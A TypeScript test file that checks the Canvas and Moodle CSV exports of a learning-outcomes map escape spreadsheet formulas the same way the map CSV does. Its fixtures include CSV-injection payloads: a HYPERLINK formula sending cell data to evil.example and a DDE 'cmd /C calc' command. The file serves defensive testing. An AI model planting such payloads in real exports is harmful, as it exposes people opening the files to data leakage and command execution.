import Papa from 'papaparse';
import { addNodes, connect, initMapDocument, snapshotOf, type MapSnapshot } from '@qms/model';
import { describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { canvasCsvFormat, moodleCsvFormat } from '../src/lms/index.js';
import { spreadsheetCsv } from '../src/spreadsheet/export.js';
import { CONTEXT } from './fixtures.js';

/** Text a spreadsheet program would run as a formula, at the start of every kind of cell. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\tTabbed', '\rReturn', "'=already quoted"];

function formulaMap(): MapSnapshot {
  const doc = new Y.Doc();
  initMapDocument(doc, { title: FORMULAS[0]! });
  const specs = [
    { kind: 'qualification', code: FORMULAS[1]!, title: FORMULAS[2]!, position: { x: 0, y: 0 } },
    { kind: 'unit', code: FORMULAS[3]!, title: FORMULAS[4]!, position: { x: 0, y: 0 } },
    ...FORMULAS.map((text, i) => ({ kind: 'learningOutcome', code: `LO ${i + 1}`, title: text, position: { x: 0, y: 0 } })),
    { kind: 'learningOutcome', code: FORMULAS[5]!, title: FORMULAS[6]!, position: { x: 0, y: 0 } },
  ];
  const [, unit, ...outcomes] = addNodes(doc, specs);
  for (const outcome of outcomes.slice(0, 4)) connect(doc, { kind: 'partOf', source: outcome!, target: unit! });
  return snapshotOf(doc);
}

/** Every cell of the file, header included. */
function cells(text: string): string[] {
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { header: false, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data.flat();
}

/** Cells a spreadsheet program would read as a formula: the first character is = + - @, tab or CR. */
const live = (all: string[]) => all.filter((cell) => /^[=+\-@\t\r]/.test(cell));

describe('LMS exports escape formulas as the map CSV does', () => {
  for (const format of [canvasCsvFormat, moodleCsvFormat]) {
    it(`${format.id}: no cell starts like a formula; each such text gets the same leading apostrophe`, async () => {
      const text = (await format.run(formulaMap(), CONTEXT)) as string;
      const all = cells(text);
      expect(live(all)).toEqual([]);
      // The outcome statements are written whole (titles and short names): each is escaped exactly once.
      for (const formula of ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(1+1)', "+cmd|' /C calc'!A0"]) {
        expect(all).toContain(`'${formula}`);
      }
      expect(all).toContain("''=already quoted");
    });
  }

  it('escapes them with the very rule of the map CSV', async () => {
    const snapshot = formulaMap();
    const title = (csv: string) => cells(csv).filter((cell) => /^'*=HYPERLINK/.test(cell));
    const canvas = title((await canvasCsvFormat.run(snapshot, CONTEXT)) as string);
    const map = title(spreadsheetCsv(snapshot));
    expect(new Set(canvas)).toEqual(new Set(map));
  });
});
